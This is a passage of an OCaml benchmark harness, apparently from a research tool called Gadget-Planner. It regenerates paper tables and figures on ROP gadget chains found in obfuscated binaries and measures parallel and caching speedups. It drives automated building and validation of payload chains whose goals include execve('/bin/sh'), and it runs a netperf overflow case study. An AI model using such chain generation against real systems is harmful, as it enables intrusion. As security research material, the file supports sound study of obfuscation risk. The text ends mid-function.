                   t4_used = prev.t4_used + Workspace.used_gadgets tr.tr_chains;
                   t4_goals = goals;
                   t4_new = prev.t4_new + nnew }))
          cells;
        { t4_config = cname;
          t4_tools =
            List.map
              (fun tool -> (tool, Hashtbl.find acc tool))
              [ "ropgadget"; "angrop"; "sgc"; "gadget-planner" ] })
      (survey_by_config ~entries ~quick (fun entry cname cfg ->
           let b = Workspace.build ~config_name:cname ~cfg entry in
           let texts = List.assoc entry.Gp_corpus.Programs.name baseline_texts in
           List.concat_map
             (fun goal ->
               List.map
                 (fun tr ->
                   let nnew =
                     if cname = "original" then 0
                     else
                       List.length
                         (List.filter (Workspace.chain_is_new texts) tr.tr_chains)
                   in
                   (goal, tr, nnew))
                 (run_tools b goal))
             Workspace.goals))
  in
  let t =
    Table.create
      ~title:
        "Table IV: gadgets (pool/used) and validated payloads per tool \
         (execve/mprotect/mmap, total, new-by-obfuscation)"
      ~header:
        [ "config"; "tool"; "pool"; "used"; "execve"; "mprotect"; "mmap";
          "total"; "(new)" ]
  in
  List.iter
    (fun row ->
      List.iter
        (fun (tool, cell) ->
          let goal_count g = List.assoc g cell.t4_goals in
          let total = List.fold_left (fun a (_, c) -> a + c) 0 cell.t4_goals in
          Table.add_row t
            [ row.t4_config; tool;
              string_of_int cell.t4_pool;
              string_of_int cell.t4_used;
              string_of_int (goal_count "execve");
              string_of_int (goal_count "mprotect");
              string_of_int (goal_count "mmap");
              string_of_int total;
              (if row.t4_config = "original" then "-"
               else Printf.sprintf "(%d)" cell.t4_new) ])
        row.t4_tools)
    rows;
  (Table.render t, rows)

(* ---------- Table V: chain properties ---------- *)

let tab5 ?(quick = true) () =
  (* collect chains per tool across the obfuscated configs *)
  let acc : (string, Gp_core.Payload.chain list ref) Hashtbl.t = Hashtbl.create 4 in
  List.iter
    (fun tool -> Hashtbl.replace acc tool (ref []))
    [ "ropgadget"; "angrop"; "sgc"; "gadget-planner" ];
  List.iter
    (List.iter (fun tr ->
         let r = Hashtbl.find acc tr.tr_tool in
         r := tr.tr_chains @ !r))
    (survey_cells ~config_major:true
       ~configs:(List.filter (fun (c, _) -> c <> "original") (survey_configs ()))
       ~quick
       (fun entry cname cfg ->
         let b = Workspace.build ~config_name:cname ~cfg entry in
         List.concat_map (fun goal -> run_tools b goal) Workspace.goals));
  let t =
    Table.create ~title:"Table V: gadget chain properties (obfuscated programs)"
      ~header:[ "tool"; "gadget len"; "chain len"; "Ret"; "IJ"; "DJ"; "CJ" ]
  in
  let data =
    List.map
      (fun tool ->
        let chains = !(Hashtbl.find acc tool) in
        let report =
          { Gp_baselines.Report.tool; pool_total = 0; chains;
            gadget_time = 0.; chain_time = 0. }
        in
        let ret, ij, dj, cj = Gp_baselines.Report.kind_percentages report in
        ( tool,
          Gp_baselines.Report.avg_gadget_len report,
          Gp_baselines.Report.avg_chain_len report,
          (ret, ij, dj, cj) ))
      [ "ropgadget"; "angrop"; "sgc"; "gadget-planner" ]
  in
  List.iter
    (fun (tool, glen, clen, (ret, ij, dj, cj)) ->
      Table.add_row t
        [ tool; Table.fmt_f1 glen; Table.fmt_f1 clen; Table.fmt_pct ret;
          Table.fmt_pct ij; Table.fmt_pct dj; Table.fmt_pct cj ])
    data;
  (Table.render t, data)

(* ---------- Fig. 5: payloads per individual obfuscation ---------- *)

let fig5 ?(quick = true) () =
  (* the risk a method ADDS: payloads that use at least one gadget the
     original binary did not have (same notion as Table IV's "(new)") *)
  let t =
    Table.create
      ~title:
        "Fig. 5: obfuscation-introduced Gadget-Planner payloads per method"
      ~header:[ "obfuscation"; "new payloads (all goals)" ]
  in
  let entries = benchmark_entries ~quick in
  let baseline_texts =
    List.map
      (fun entry ->
        let b = Workspace.build entry in
        (entry.Gp_corpus.Programs.name, Workspace.pool_texts b.Workspace.analysis))
      entries
  in
  let data =
    List.map
      (fun pass ->
        let cfg = Gp_obf.Obf.single pass in
        let total =
          List.fold_left
            (fun acc entry ->
              let b =
                Workspace.build ~config_name:(Gp_obf.Obf.pass_name pass) ~cfg entry
              in
              let texts = List.assoc entry.Gp_corpus.Programs.name baseline_texts in
              List.fold_left
                (fun acc goal ->
                  acc
                  + List.length
                      (List.filter (Workspace.chain_is_new texts)
                         (Workspace.run_gp b goal).Gp_core.Api.chains))
                acc Workspace.goals)
            0 entries
        in
        (Gp_obf.Obf.pass_name pass, total))
      Gp_obf.Obf.all_passes
  in
  let ranked = List.sort (fun (_, a) (_, b) -> compare b a) data in
  List.iter
    (fun (name, total) -> Table.add_row t [ name; string_of_int total ])
    ranked;
  (Table.render t, data)

(* ---------- Table VI: SPEC-like programs ---------- *)

let tab6 () =
  let t =
    Table.create
      ~title:"Table VI: SPEC-like programs — gadgets and chains per tool"
      ~header:
        [ "benchmark"; "config"; "gadgets"; "RG"; "angrop"; "SGC"; "GP" ]
  in
  let data =
    survey_cells ~entries:Gp_corpus.Spec.all
      (fun entry cname cfg ->
        let b = Workspace.build ~config_name:cname ~cfg entry in
            let raw = List.length (Gp_core.Extract.raw_scan b.Workspace.image) in
            (* chains summed over the three goals *)
            let per_tool = Hashtbl.create 4 in
            List.iter
              (fun goal ->
                List.iter
                  (fun tr ->
                    Hashtbl.replace per_tool tr.tr_tool
                      ((match Hashtbl.find_opt per_tool tr.tr_tool with
                        | Some c -> c
                        | None -> 0)
                      + List.length tr.tr_chains))
                  (run_tools b goal))
              Workspace.goals;
            let count tool =
              match Hashtbl.find_opt per_tool tool with Some c -> c | None -> 0
            in
            ( entry.Gp_corpus.Programs.name, cname, raw,
              count "ropgadget", count "angrop", count "sgc",
              count "gadget-planner" ))
  in
  List.iter
    (fun (name, cname, raw, rg, ag, sg, gp) ->
      Table.add_row t
        [ name; cname; string_of_int raw; string_of_int rg; string_of_int ag;
          string_of_int sg; string_of_int gp ])
    data;
  (Table.render t, data)

(* ---------- Fig. 6: an mcf chain no baseline finds ---------- *)

let fig6 () =
  let entry = List.nth Gp_corpus.Spec.all 1 (* 429.mcf *) in
  let b = Workspace.build ~config_name:"llvm-obf" ~cfg:Gp_obf.Obf.ollvm entry in
  let goal = Gp_core.Goal.Execve "/bin/sh" in
  let o = Workspace.run_gp b goal in
  let buf = Buffer.create 512 in
  Buffer.add_string buf "== Fig. 6: a Gadget-Planner chain from obfuscated 429.mcf ==\n";
  (match
     (* prefer a chain showing off a conditional or merged gadget *)
     let interesting (c : Gp_core.Payload.chain) =
       List.exists
         (fun (s : Gp_core.Plan.step) ->
           s.Gp_core.Plan.gadget.Gp_core.Gadget.has_cond
           || s.Gp_core.Plan.gadget.Gp_core.Gadget.has_merge)
         c.Gp_core.Payload.c_steps
     in
     match List.find_opt interesting o.Gp_core.Api.chains with
     | Some c -> Some c
     | None -> (match o.Gp_core.Api.chains with c :: _ -> Some c | [] -> None)
   with
   | Some c -> Buffer.add_string buf (Gp_core.Payload.describe c)
   | None -> Buffer.add_string buf "no chain found\n");
  (* baseline verdicts on the same binary *)
  List.iter
    (fun goal ->
      let rg = Gp_baselines.Ropgadget.run b.Workspace.image goal in
      let ag =
        Gp_baselines.Angrop.run ~pool:b.Workspace.analysis.Gp_core.Api.gadgets
          b.Workspace.image goal
      in
      Buffer.add_string buf
        (Printf.sprintf "baselines on %s: ropgadget=%d angrop=%d\n"
           (Gp_core.Goal.name goal)
           (List.length rg.Gp_baselines.Report.chains)
           (List.length ag.Gp_baselines.Report.chains)))
    [ goal ];
  (Buffer.contents buf, o)

(* ---------- Fig. 8: the netperf case study ---------- *)

let fig8 () =
  let b =
    Workspace.build ~config_name:"llvm-obf" ~cfg:Gp_obf.Obf.ollvm
      Gp_corpus.Netperf.entry
  in
  let buf = Buffer.create 512 in
  Buffer.add_string buf "== Fig. 8: netperf case study (end-to-end) ==\n";
  let result = Netperf_attack.run b in
  (match result with
   | None -> Buffer.add_string buf "probe failed: overflow not reachable\n"
   | Some r ->
     Buffer.add_string buf
       (Printf.sprintf
          "probe: return address cell at 0x%Lx, %d filler words\n"
          r.Netperf_attack.probe.Netperf_attack.ret_cell
          r.Netperf_attack.probe.Netperf_attack.filler_words);
     Buffer.add_string buf
       (Printf.sprintf "chains confirmed end-to-end: %d (of %d planned)\n"
          (List.length r.Netperf_attack.chains)
          r.Netperf_attack.attempted);
     (match r.Netperf_attack.chains with
      | c :: _ -> Buffer.add_string buf (Gp_core.Payload.describe c)
      | [] -> ()));
  (Buffer.contents buf, result)

(* ---------- Table VII: per-stage performance on netperf ---------- *)

let tab7 () =
  let image =
    Gp_codegen.Pipeline.compile ~transform:(Gp_obf.Obf.transform Gp_obf.Obf.ollvm)
      Gp_corpus.Netperf.entry.Gp_corpus.Programs.source
  in
  let timed f =
    let a0 = Gc.allocated_bytes () in
    let t0 = Unix.gettimeofday () in
    let r = f () in
    (r, Unix.gettimeofday () -. t0, (Gc.allocated_bytes () -. a0) /. 1048576.)
  in
  let t =
    Table.create
      ~title:"Table VII: per-stage cost on obfuscated netperf"
      ~header:[ "tool"; "stage"; "time (s)"; "alloc (MB)" ]
  in
  (* Gadget-Planner stages *)
  let harvested, ext_t, ext_m = timed (fun () -> Gp_core.Extract.harvest image) in
  let (minimal, _), sub_t, sub_m = timed (fun () -> Gp_core.Subsume.minimize harvested) in
  let pool = Gp_core.Pool.build minimal in
  let goal = Gp_core.Goal.concretize image (Gp_core.Goal.Execve "/bin/sh") in
  let _, plan_t, plan_m =
    timed (fun () ->
        let seen = Hashtbl.create 16 in
        let accept p =
          match Gp_core.Payload.build_opt p goal with
          | None -> false
          | Some c ->
            let k = Gp_core.Payload.chain_set_key c in
            if Hashtbl.mem seen k then false
            else begin
              Hashtbl.add seen k ();
              Gp_core.Payload.validate image c
            end
        in
        Gp_core.Planner.search ~config:Workspace.gp_planner_config ~accept pool goal)
  in
  let add tool stage tm mem =
    Table.add_row t [ tool; stage; Printf.sprintf "%.2f" tm; Printf.sprintf "%.0f" mem ]
  in
  add "gadget-planner" "gadget extraction" ext_t ext_m;
  add "gadget-planner" "subsumption testing" sub_t sub_m;
  add "gadget-planner" "planning" plan_t plan_m;
  add "gadget-planner" "total" (ext_t +. sub_t +. plan_t) (ext_m +. sub_m +. plan_m);
  (* Angrop *)
  let ag, ag_t, ag_m =
    timed (fun () -> Gp_baselines.Angrop.run image (Gp_core.Goal.Execve "/bin/sh"))
  in
  add "angrop" "find + chain" (ag.Gp_baselines.Report.gadget_time +. ag.Gp_baselines.Report.chain_time) ag_m;
  ignore ag_t;
  (* SGC *)
  let sg, sg_t, sg_m =
    timed (fun () -> Gp_baselines.Sgc.run image (Gp_core.Goal.Execve "/bin/sh"))
  in
  add "sgc" "find + chain" (sg.Gp_baselines.Report.gadget_time +. sg.Gp_baselines.Report.chain_time) sg_m;
  ignore sg_t;
  (Table.render t, (ext_t, sub_t, plan_t))

(* ---------- parallel speedup (DESIGN.md "Parallel execution & ...") ---------- *)

(* Sequential-vs-parallel cost of stages 1-2 over the survey corpus.

   Two sweeps over the same (program, obfuscation) cells:
   - "seq" — jobs=1 with the solver memo DISABLED: the pre-parallelism
     pipeline, the honest baseline;
   - "par" — [jobs] domains with the memo enabled: the shipped
     configuration, in which the process-global cache persists across a
     survey exactly as it does under [Api.run] (obfuscated binaries
     share gadget formula shapes, so a warmed cache hits hard).
   Each sweep is preceded by one untimed warmup pass over the same
   cells — standard steady-state methodology; for "seq" the warmup only
   stabilizes the heap (there is no cache to warm), for "par" it fills
   the memo the way any long-running survey process does.
   The speedup column is seq/par.  On a single-core host the domains
   add nothing (Par clamps oversubscription) and the memo is the whole
   effect; [cores] is recorded in the JSON so readers can tell which
   regime produced the numbers.  The gadget pools of the two runs are
   compared address-for-address — the parallel path must reproduce the
   sequential pool exactly. *)

type par_row = {
  p_program : string;
  p_config : string;
  p_seq_s : float;      (* jobs=1, memo disabled *)
  p_par_s : float;      (* jobs=n, memo enabled *)
  p_pool : int;
  p_agree : bool;       (* parallel pool == sequential pool *)
}

let with_solver_memo enabled f =
  let memo = Gp_smt.Solver.memo and ememo = Gp_smt.Solver.equal_memo in
  Gp_smt.Cache.reset memo;
  Gp_smt.Cache.reset ememo;
  Gp_smt.Cache.set_enabled memo enabled;
  Gp_smt.Cache.set_enabled ememo enabled;
  Fun.protect
    ~finally:(fun () ->
      Gp_smt.Cache.set_enabled memo true;
      Gp_smt.Cache.set_enabled ememo true)
    f

(* Shared provenance header for every BENCH_*.json: the experiment id,
   generation time, and enough environment identity — git revision,
   hostname, compiler — to tell two otherwise-identical runs apart
   when comparing archived benches.  Best-effort: a missing git binary
   or detached workdir degrades to "unknown" rather than failing the
   bench. *)
let git_rev () =
  try
    let ic = Unix.open_process_in "git rev-parse HEAD 2>/dev/null" in
    let line = try input_line ic with End_of_file -> "" in
    match Unix.close_process_in ic with
    | Unix.WEXITED 0 when line <> "" -> line
    | _ -> "unknown"
  with _ -> "unknown"

let json_provenance oc ~experiment =
  let p fmt = Printf.fprintf oc fmt in
  p "  \"experiment\": %S,\n" experiment;
  p "  \"generated_unix\": %.0f,\n" (Unix.time ());
  p "  \"git_rev\": %S,\n" (git_rev ());
  p "  \"hostname\": %S,\n" (try Unix.gethostname () with _ -> "unknown");
  p "  \"ocaml_version\": %S,\n" Sys.ocaml_version

let par_json path ~jobs ~rows ~seq_total ~par_total ~hits ~misses =
  let oc = open_out path in
  let p fmt = Printf.fprintf oc fmt in
  p "{\n";
  json_provenance oc ~experiment:"par";
  p "  \"jobs\": %d,\n" jobs;
  p "  \"cores\": %d,\n" (Gp_util.Par.available ());
  p "  \"note\": \"seq = jobs:1 with the solver memo disabled (the \
     pre-parallelism pipeline); par = jobs:%d with the memo enabled \
     (the shipped configuration).  Both sweeps timed at steady state \
     after one untimed warmup pass.  Extract+subsume only.  With \
     cores=1 the speedup is the memo's; domains beyond the core count \
     are clamped.\",\n" jobs;
  p "  \"rows\": [\n";
  List.iteri
    (fun i r ->
      p "    { \"program\": %S, \"config\": %S, \"seq_s\": %.4f, \
         \"par_s\": %.4f, \"pool\": %d, \"agree\": %b }%s\n"
        r.p_program r.p_config r.p_seq_s r.p_par_s r.p_pool r.p_agree
        (if i = List.length rows - 1 then "" else ","))
    rows;
  p "  ],\n";
  p "  \"seq_total_s\": %.4f,\n" seq_total;
  p "  \"par_total_s\": %.4f,\n" par_total;
  p "  \"speedup\": %.2f,\n" (seq_total /. max 1e-9 par_total);
  p "  \"cache_hits\": %d,\n" hits;
  p "  \"cache_misses\": %d,\n" misses;
  p "  \"cache_hit_rate\": %.3f\n"
    (float_of_int hits /. float_of_int (max 1 (hits + misses)));
  p "}\n";
  close_out oc

let par ?(quick = true) ?(jobs = 4) ?(out = "BENCH_par.json") () =
  let cells =
    survey_cells ~quick (fun entry cname cfg ->
        ( entry.Gp_corpus.Programs.name,
          cname,
          Gp_codegen.Pipeline.compile
            ~transform:(Gp_obf.Obf.transform cfg)
            entry.Gp_corpus.Programs.source ))
  in
  let timed_sweep ~jobs =
    List.map (fun (_, _, image) ->
        Gp_core.Gadget.reset_ids ();
        Gp_core.Api.timed (fun () -> Gp_core.Api.analyze ~jobs image))
      cells
  in
  let warmup ~jobs =
    List.iter (fun (_, _, image) ->
        Gp_core.Gadget.reset_ids ();
        ignore (Gp_core.Api.analyze ~jobs image))
      cells;
    Gc.compact ()
  in
  (* sweep 1: the pre-parallelism pipeline (jobs=1, memo off) *)
  let seq =
    with_solver_memo false (fun () ->
        warmup ~jobs:1;
        timed_sweep ~jobs:1)
  in
  (* sweep 2: the shipped configuration (jobs=n, process-global memo) *)
  let par_runs =
    with_solver_memo true (fun () ->
        warmup ~jobs;
        timed_sweep ~jobs)
  in
  let hits = ref 0 and misses = ref 0 in
  let rows =
    List.map2
      (fun (prog, cname, _) ((a_seq, t_seq), (a_par, t_par)) ->
        hits := !hits + a_par.Gp_core.Api.analysis_cache_hits;
        misses := !misses + a_par.Gp_core.Api.analysis_cache_misses;
        { p_program = prog;
          p_config = cname;
          p_seq_s = t_seq;
          p_par_s = t_par;
          p_pool = List.length a_par.Gp_core.Api.gadgets;
          p_agree =
            List.map (fun (g : Gp_core.Gadget.t) -> g.Gp_core.Gadget.addr)
              a_par.Gp_core.Api.gadgets
            = List.map (fun (g : Gp_core.Gadget.t) -> g.Gp_core.Gadget.addr)
                a_seq.Gp_core.Api.gadgets })
      cells
      (List.combine seq par_runs)
  in
  let seq_total = List.fold_left (fun a r -> a +. r.p_seq_s) 0. rows in
  let par_total = List.fold_left (fun a r -> a +. r.p_par_s) 0. rows in
  par_json (out_path out) ~jobs ~rows ~seq_total ~par_total ~hits:!hits ~misses:!misses;
  let t =
    Table.create
      ~title:
        (Printf.sprintf
           "Parallel+memo speedup, extract+subsume (jobs=%d, %d core(s))"
           jobs (Gp_util.Par.available ()))
      ~header:[ "program"; "config"; "seq (s)"; "par (s)"; "speedup"; "pool"; "agree" ]
  in
  List.iter
    (fun r ->
      Table.add_row t
        [ r.p_program; r.p_config;
          Printf.sprintf "%.3f" r.p_seq_s;
          Printf.sprintf "%.3f" r.p_par_s;
          Printf.sprintf "%.2fx" (r.p_seq_s /. max 1e-9 r.p_par_s);
          string_of_int r.p_pool;
          (if r.p_agree then "yes" else "NO") ])
    rows;
  Table.add_row t
    [ "TOTAL"; "-";
      Printf.sprintf "%.3f" seq_total;
      Printf.sprintf "%.3f" par_total;
      Printf.sprintf "%.2fx" (seq_total /. max 1e-9 par_total);
      "-"; "-" ];
  let txt =
    Table.render t
    ^ Printf.sprintf "cache: %d hits / %d misses (%.1f%% hit rate); wrote %s\n"
        !hits !misses
        (100. *. float_of_int !hits /. float_of_int (max 1 (!hits + !misses)))
        out
  in
  (txt, rows)

(* ---------- stages 3-4: planning + validation speedup ---------- *)

(* Sequential-vs-parallel cost of stages 3-4 (plan + validate) over the
   survey corpus, mirroring [par]'s methodology one level up the
   pipeline.

   Stages 1-2 run ONCE per cell, outside the timers, and the resulting
   analysis is shared by both sweeps — so the comparison isolates the
   planner and validator:
   - "seq" — jobs=1 with the PR's memo layers disabled (pool-keyed
     solver memo + hash-consed Term canonicalization): the baseline
     planner.  The PR 2 caches (check/prove_equal) stay ON in both
     sweeps; they are part of the baseline.
   - "par" — [jobs] domains with every memo enabled: the shipped
     configuration, warmed exactly as a long-running survey process
     warms it.
   Each sweep gets one untimed warmup pass + Gc.compact first.  On a
   single-core host Par clamps the domains and the memo layers are the
   whole effect; [cores] is in the JSON so readers can tell.  The two
   sweeps' outcomes are compared chain-for-chain and stat-for-stat
   (cache counters and wall-clock excluded — verdicts never depend on
   cache temperature). *)

type plan_row = {
  q_program : string;
  q_config : string;
  q_seq_s : float;      (* jobs=1, new memo layers disabled *)
  q_par_s : float;      (* jobs=n, memos enabled *)
  q_chains : int;       (* validated chains, summed over goals *)
  q_agree : bool;       (* identical chains AND stats, seq vs par *)
}

let with_plan_memo enabled f =
  let pm = Gp_smt.Solver.pool_memo in
  Gp_smt.Cache.reset pm;
  Gp_smt.Cache.set_enabled pm enabled;
  Gp_smt.Term.reset_memo ();
  Gp_smt.Term.set_memo_enabled enabled;
  Fun.protect
    ~finally:(fun () ->
      Gp_smt.Cache.set_enabled pm true;
      Gp_smt.Term.set_memo_enabled true)
    f

(* Everything about an outcome that must be invariant across job counts
   and cache temperature: the chains themselves and the deterministic
   planner/validator tallies. *)
let plan_fingerprint (o : Gp_core.Api.outcome) =
  let st = o.Gp_core.Api.stats in
  ( List.map Gp_core.Payload.chain_set_key o.Gp_core.Api.chains,
    ( st.Gp_core.Api.plans_found,
      st.Gp_core.Api.chains_built,
      st.Gp_core.Api.chains_validated,
      st.Gp_core.Api.plan_expanded,
      st.Gp_core.Api.plan_peak_queue,
      st.Gp_core.Api.plan_inst_hits,
      st.Gp_core.Api.plan_cand_hits,
      st.Gp_core.Api.plan_discarded,
      st.Gp_core.Api.validate_faults,
      st.Gp_core.Api.validate_timeouts ),
    List.map Gp_core.Api.rung_name o.Gp_core.Api.rungs )

let plan_json path ~jobs ~rows ~seq_total ~par_total ~obf_speedup ~hits
    ~misses ~term_hits ~term_misses =
  let oc = open_out path in
  let p fmt = Printf.fprintf oc fmt in
  p "{\n";
  json_provenance oc ~experiment:"plan";
  p "  \"jobs\": %d,\n" jobs;
  p "  \"cores\": %d,\n" (Gp_util.Par.available ());
  p "  \"note\": \"plan+validate (stages 3-4) over a shared analysis.  \
     seq = jobs:1 with the pool-keyed solver memo and hash-consed Term \
     canonicalization disabled (the pre-portfolio planner); par = \
     jobs:%d with every memo enabled (the shipped configuration).  \
     Both sweeps timed at steady state after one untimed warmup pass.  \
     With cores=1 the speedup is the memo layers'; domains beyond the \
     core count are clamped.\",\n" jobs;
  p "  \"rows\": [\n";
  List.iteri
    (fun i r ->
      p "    { \"program\": %S, \"config\": %S, \"seq_s\": %.4f, \
         \"par_s\": %.4f, \"chains\": %d, \"agree\": %b }%s\n"
        r.q_program r.q_config r.q_seq_s r.q_par_s r.q_chains r.q_agree
        (if i = List.length rows - 1 then "" else ","))
    rows;
  p "  ],\n";
  p "  \"seq_total_s\": %.4f,\n" seq_total;
  p "  \"par_total_s\": %.4f,\n" par_total;
  p "  \"speedup\": %.2f,\n" (seq_total /. max 1e-9 par_total);
  p "  \"obf_speedup\": %.2f,\n" obf_speedup;
  p "  \"cache_hits\": %d,\n" hits;
  p "  \"cache_misses\": %d,\n" misses;
  p "  \"cache_hit_rate\": %.3f,\n"
    (float_of_int hits /. float_of_int (max 1 (hits + misses)));
  p "  \"term_memo_hits\": %d,\n" term_hits;
  p "  \"term_memo_misses\": %d\n" term_misses;
  p "}\n";
  close_out oc

let plan ?(quick = true) ?(jobs = 4) ?(out = "BENCH_plan.json") () =
  (* a mid-weight config: enough fuel that the search works for diverse
     chains (where the instantiation memos earn their keep), small
     enough that the sweep stays in bench-suite territory *)
  let planner_config =
    { Gp_core.Planner.default_config with
      Gp_core.Planner.node_budget = 1200; max_plans = 6 }
  in
  let cells =
    survey_cells ~quick (fun entry cname cfg ->
        let image =
          Gp_codegen.Pipeline.compile
            ~transform:(Gp_obf.Obf.transform cfg)
            entry.Gp_corpus.Programs.source
        in
        (* stages 1-2 once, shared by both sweeps *)
        Gp_core.Gadget.reset_ids ();
        (entry.Gp_corpus.Programs.name, cname, Gp_core.Api.analyze image))
  in
  let run_cell ~jobs a =
    List.map
      (fun g -> Gp_core.Api.run_with_analysis ~planner_config ~jobs a g)
      Workspace.goals
  in
  let timed_sweep ~jobs =
    List.map
      (fun (_, _, a) -> Gp_core.Api.timed (fun () -> run_cell ~jobs a))
      cells
  in
  let warmup ~jobs =
    List.iter (fun (_, _, a) -> ignore (run_cell ~jobs a)) cells;
    Gc.compact ()
  in
  (* sweep 1: the pre-portfolio planner (jobs=1, new memo layers off) *)
  let seq =
    with_plan_memo false (fun () ->
        warmup ~jobs:1;
        timed_sweep ~jobs:1)
  in
  (* sweep 2: the shipped configuration (jobs=n, memos warmed) *)
  let th0, tm0 = Gp_smt.Term.memo_stats () in
  let par_runs =
    with_plan_memo true (fun () ->
        warmup ~jobs;
        timed_sweep ~jobs)
  in
  let th1, tm1 = Gp_smt.Term.memo_stats () in
  let hits = ref 0 and misses = ref 0 in
  let rows =
    List.map2
      (fun (prog, cname, _) ((os_seq, t_seq), (os_par, t_par)) ->
        List.iter
          (fun (o : Gp_core.Api.outcome) ->
            hits := !hits + o.Gp_core.Api.stats.Gp_core.Api.cache_hits;
            misses := !misses + o.Gp_core.Api.stats.Gp_core.Api.cache_misses)
          os_par;
        { q_program = prog;
          q_config = cname;
          q_seq_s = t_seq;
          q_par_s = t_par;
          q_chains =
            List.fold_left
              (fun acc (o : Gp_core.Api.outcome) ->
                acc + List.length o.Gp_core.Api.chains)
              0 os_par;
          q_agree =
            List.map plan_fingerprint os_seq
            = List.map plan_fingerprint os_par })
      cells
      (List.combine seq par_runs)
  in
  let seq_total = List.fold_left (fun a r -> a +. r.q_seq_s) 0. rows in
  let par_total = List.fold_left (fun a r -> a +. r.q_par_s) 0. rows in
  let obf = List.filter (fun r -> r.q_config <> "original") rows in
  let obf_speedup =
    List.fold_left (fun a r -> a +. r.q_seq_s) 0. obf
    /. max 1e-9 (List.fold_left (fun a r -> a +. r.q_par_s) 0. obf)
  in
  plan_json (out_path out) ~jobs ~rows ~seq_total ~par_total ~obf_speedup ~hits:!hits
    ~misses:!misses ~term_hits:(th1 - th0) ~term_misses:(tm1 - tm0);
  let t =
    Table.create
      ~title:
        (Printf.sprintf
           "Parallel+memo speedup, plan+validate (jobs=%d, %d core(s))"
           jobs (Gp_util.Par.available ()))
      ~header:
        [ "program"; "config"; "seq (s)"; "par (s)"; "speedup"; "chains";
          "agree" ]
  in
  List.iter
    (fun r ->
      Table.add_row t
        [ r.q_program; r.q_config;
          Printf.sprintf "%.3f" r.q_seq_s;
          Printf.sprintf "%.3f" r.q_par_s;
          Printf.sprintf "%.2fx" (r.q_seq_s /. max 1e-9 r.q_par_s);
          string_of_int r.q_chains;
          (if r.q_agree then "yes" else "NO") ])
    rows;
  Table.add_row t
    [ "TOTAL"; "-";
      Printf.sprintf "%.3f" seq_total;
      Printf.sprintf "%.3f" par_total;
      Printf.sprintf "%.2fx" (seq_total /. max 1e-9 par_total);
      "-"; "-" ];
  let txt =
    Table.render t
    ^ Printf.sprintf
        "obfuscated-config speedup: %.2fx; solver memo: %d hits / %d \
         misses; term memo: %d hits / %d misses; wrote %s\n"
        obf_speedup !hits !misses (th1 - th0) (tm1 - tm0) out
  in
  (txt, rows)

(* ---------- incremental store: cold vs warm (DESIGN.md §11) ---------- *)

(* Cost of an analysis (stages 1-2) under the content-addressed
   incremental store, measured the way the store is used: as SURVEY
   SWEEPS over every (program, config) cell, config-major (all
   `original` cells first), one store file shared by the whole survey.
   Four temperatures:

   - "cold"          — the first-ever sweep: no store file, in-memory
     state only accumulates as the sweep proceeds (so the obfuscated
     cells already run with the original's summaries populated, exactly
     as a survey process would); the store is saved once at the end
     and the save is timed separately ([save_s]).
   - "warm-cross"    — the next sweep: the cold sweep's store file —
     populated by the original cells and the rest of the survey — is
     loaded once ([load_s]), every in-memory cache having been emptied
     first, then each cell re-analyzed.  The obfuscated rows are the
     tentpole's target: analyzing `llvm-obf`/`tigress` with the
     original's store populated.
   - "warm-same"     — per-cell isolated store holding only that cell's
     own entries: a cross-process re-run of one binary.
   - "warm-orig-only" — obfuscated cells with a store holding ONLY the
     original-config cells: isolates strict original→obfuscated
     transfer.  This is reported honestly as its own aggregate: the
     obfuscators here rewrite most instruction bytes (the content-key
     hit rate is ~17% of starts) and subsumption verdicts over
     obfuscator-generated gadgets do not exist in the original's data,
     so this number is structurally near 1x — the compounding wins come
     from the shared survey store above.

   Per-row [i_seconds] is the [Api.analyze] call alone; store I/O is
   timed once per sweep and reported as [load_s]/[save_s].  In-memory
   caches are emptied at every sweep/cell boundary where a fresh
   process is being modeled ([reset_world]).  [agree] compares the
   pool (gadget addresses, in order) against the cell's cold
   reference — the store must be semantically invisible. *)

type incr_row = {
  i_program : string;
  i_config : string;
  i_mode : string;      (* cold | warm-cross | warm-same | warm-orig-only *)
  i_seconds : float;
  i_hits : int;         (* summary-store hits during the harvest *)
  i_misses : int;
  i_loaded : int;       (* on-disk entries imported before the analyze *)
  i_agree : bool;       (* pool identical to the cold reference *)
}

(* Empty every process-global cache the pipeline keeps, so the next run
   starts as a fresh process would: gadget ids, interned terms, solver
   verdict memos, and the in-memory summary table. *)
let reset_world () =
  Gp_core.Gadget.reset_ids ();
  Gp_smt.Term.reset_memo ();
  Gp_smt.Cache.reset Gp_smt.Solver.memo;
  Gp_smt.Cache.reset Gp_smt.Solver.equal_memo;
  Gp_smt.Cache.reset Gp_smt.Solver.pool_memo;
  Gp_smt.Solver.reset_screen ();
  Gp_core.Incr.reset ()

let rec rm_rf path =
  if Sys.file_exists path then
    if Sys.is_directory path then begin
      Array.iter (fun f -> rm_rf (Filename.concat path f)) (Sys.readdir path);
      Sys.rmdir path
    end
    else Sys.remove path

let incr_json path ~jobs ~rows ~cold_total ~warm_cross_total ~warm_same_total
    ~orig_only_speedup ~cross_speedup ~load_s ~save_s ~store_entries =
  let oc = open_out path in
  let p fmt = Printf.fprintf oc fmt in
  p "{\n";
  json_provenance oc ~experiment:"incr";
  p "  \"jobs\": %d,\n" jobs;
  p "  \"cores\": %d,\n" (Gp_util.Par.available ());
  p "  \"note\": \"analyze (stages 1-2) per survey cell under the \
     content-addressed incremental store; sweeps run config-major \
     (original cells first) over one shared store file.  cold = \
     first-ever sweep, no store on disk (saved once afterwards, \
     save_s); warm-cross = next sweep with that store — populated by \
     the original cells and the rest of the survey — loaded once \
     (load_s): the obfuscated rows analyze llvm-obf/tigress with the \
     original's store populated; warm-same = per-cell store holding \
     only that cell (a cross-process re-run of one binary); \
     warm-orig-only = obfuscated cells with a store holding ONLY the \
     original-config cells, isolating strict original-to-obfuscated \
     transfer (structurally near 1x here: the obfuscators rewrite \
     most bytes, see DESIGN.md section 11).  seconds is the analyze \
     call alone; store I/O is timed separately.  agree compares the \
     pool against the cold reference; the store must be semantically \
     invisible.\",\n";
  p "  \"rows\": [\n";
  List.iteri
    (fun i r ->
      p "    { \"program\": %S, \"config\": %S, \"mode\": %S, \
         \"seconds\": %.4f, \"summary_hits\": %d, \"summary_misses\": \
         %d, \"store_loaded\": %d, \"agree\": %b }%s\n"
        r.i_program r.i_config r.i_mode r.i_seconds r.i_hits r.i_misses
        r.i_loaded r.i_agree
        (if i = List.length rows - 1 then "" else ","))
    rows;
  p "  ],\n";
  p "  \"cold_total_s\": %.4f,\n" cold_total;
  p "  \"warm_cross_total_s\": %.4f,\n" warm_cross_total;
  p "  \"warm_same_total_s\": %.4f,\n" warm_same_total;
  p "  \"warm_same_speedup\": %.2f,\n"
